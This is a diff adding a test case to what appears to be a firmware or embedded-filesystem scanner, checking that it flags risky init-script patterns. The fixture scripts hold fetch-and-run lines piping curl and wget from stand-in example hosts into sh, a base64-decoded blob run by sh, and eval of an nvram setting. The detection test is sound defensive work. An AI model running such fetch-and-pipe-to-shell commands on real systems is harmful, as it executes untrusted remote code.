@@ -181,6 +181,19 @@ def a_variable_that_a_file_may_set():
     equal(enabled(agree(root("sourced", {"etc/init.d/rcS": script})), "telnetd"), [None])
 
 
+@case
+def what_a_script_fetches_and_runs():
+    folder = root("fetches", {
+        "etc/init.d/rcS": "#!/bin/sh\ncurl -s http://a.example/x | sh\neval \"$(nvram get startup)\"\n/etc/called.sh\n",
+        "etc/called.sh": "#!/bin/sh\nbase64 -d /etc/blob | sh\n",
+        "etc/dead.sh": "#!/bin/sh\nwget -qO- http://b.example/x | sh\n",
+    })
+    told = {(one["rule"], one["path"]) for one in agree(folder)["findings"] if one["rule"].startswith("command-f")
+            or one["rule"] == "command-decoded"}
+    equal(told, {("command-fetched-unprotected", "/etc/init.d/rcS"), ("command-from-setting", "/etc/init.d/rcS"),
+                 ("command-decoded", "/etc/called.sh"), ("command-foreign-possible", "/etc/dead.sh")})
+
+
 def image_agrees(path):
     def run():
         agree(corpus(path))
